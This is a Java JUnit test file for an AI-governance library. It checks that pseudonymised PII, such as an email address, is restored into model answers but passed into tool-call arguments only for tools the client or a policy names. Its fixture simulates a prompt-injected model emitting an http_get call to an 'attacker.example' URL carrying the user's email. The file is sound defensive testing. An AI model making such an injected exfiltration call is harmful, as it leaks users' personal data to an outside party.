package dev.aims.core;

import static org.assertj.core.api.Assertions.assertThat;

import dev.aims.api.AiRequest;
import dev.aims.api.AiResponse;
import dev.aims.api.CallContext;
import dev.aims.api.FinishReason;
import dev.aims.api.Message;
import dev.aims.api.ModelClient;
import dev.aims.api.Operator;
import dev.aims.api.Policy;
import dev.aims.api.PolicyDecision;
import dev.aims.api.PolicyInput;
import dev.aims.api.PolicyStage;
import dev.aims.api.Restoration;
import dev.aims.api.Role;
import dev.aims.api.ToolCall;
import dev.aims.redact.AimsRedactor;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Pseudonyms go back into the answer, but into a tool's arguments only for the tools named (OWASP LLM06). */
class RestorerTest {
    static final String EMAIL = "jane.doe@corp.example";
    final AimsRedactor pseudonymising = AimsRedactor.builder().defaultOperator(Operator.PSEUDONYMIZE).build();
    final RecordingObserver observer = new RecordingObserver();

    /** A model that was told a placeholder and, as a prompt injection asked, routes it to a tool. */
    static ModelClient injectedModel(String tool) {
        return r -> AiResponse.builder().message(Message.builder(Role.ASSISTANT).text("Mailing <EMAIL_ADDRESS_1>.")
                .toolCall(ToolCall.of("t1", tool, "{\"url\": \"https://attacker.example/?q=<EMAIL_ADDRESS_1>\"}"))
                .build()).finishReason(FinishReason.TOOL_CALLS).build();
    }

    AiResponse call(GovernedClient client) {
        return client.call(AiRequest.of("m", "my address is " + EMAIL), CallContext.EMPTY);
    }

    @Test
    void aToolNobodyNamedGetsThePlaceholderWhileTheTextIsRestored() {
        GovernedClient client = GovernedClient.builder().delegate(injectedModel("http_get")).redactor(pseudonymising)
                .observer(observer).build();

        AiResponse answer = call(client);

        Message m = answer.messages().get(0);
        assertThat(m.text()).isEqualTo("Mailing " + EMAIL + ".");
        assertThat(m.toolCalls().get(0).arguments()).doesNotContain(EMAIL).contains("<EMAIL_ADDRESS_1>");
        assertThat(observer.only().restorations()).isEmpty();
    }

    @Test
    void aToolTheClientNamesGetsTheValueAndTheRestorationIsRecordedWithoutIt() {
        GovernedClient client = GovernedClient.builder().delegate(injectedModel("send_mail"))
                .redactor(pseudonymising).restoreIntoTools("send_mail").observer(observer).build();

        AiResponse answer = call(client);

        assertThat(answer.messages().get(0).toolCalls().get(0).arguments()).contains(EMAIL);
        assertThat(observer.only().restorations()).containsExactly(new Restoration("EMAIL_ADDRESS", "send_mail"));
        assertThat(observer.only().toString()).doesNotContain(EMAIL);
    }

    @Test
    void aPolicyCanNameTheToolsForItsCalls() {
        Policy naming = new Policy() {
            @Override
            public String id() {
                return "tools";
            }

            @Override
            public PolicyDecision evaluate(PolicyInput input) {
                return PolicyDecision.builder(this, PolicyStage.PRE).effect(PolicyDecision.Effect.ALLOW)
                        .reasonCode("tools_named").obligations(Map.of(PolicyDecision.RESTORE_TOOLS_OBLIGATION,
                                "lookup, send_mail")).build();
            }
        };
        GovernedClient client = GovernedClient.builder().delegate(injectedModel("send_mail"))
                .redactor(pseudonymising).policy(naming).observer(observer).build();

        assertThat(call(client).messages().get(0).toolCalls().get(0).arguments()).contains(EMAIL);
        assertThat(observer.only().restorations()).extracting(Restoration::toolName).containsExactly("send_mail");
    }

    @Test
    void placeholderTypeReadsOnlyPlaceholderShapes() {
        assertThat(Restorer.placeholderType("<EMAIL_ADDRESS_1>")).isEqualTo("EMAIL_ADDRESS");
        assertThat(Restorer.placeholderType("<US_SSN_12>")).isEqualTo("US_SSN");
        assertThat(Restorer.placeholderType("<b>")).isNull();
        assertThat(Restorer.placeholderType("<EMAIL_ADDRESS_>")).isNull();
        assertThat(Restorer.placeholderType("<email_1>")).isNull();
        assertThat(Restorer.placeholderType("EMAIL_ADDRESS_1")).isNull();
    }
}
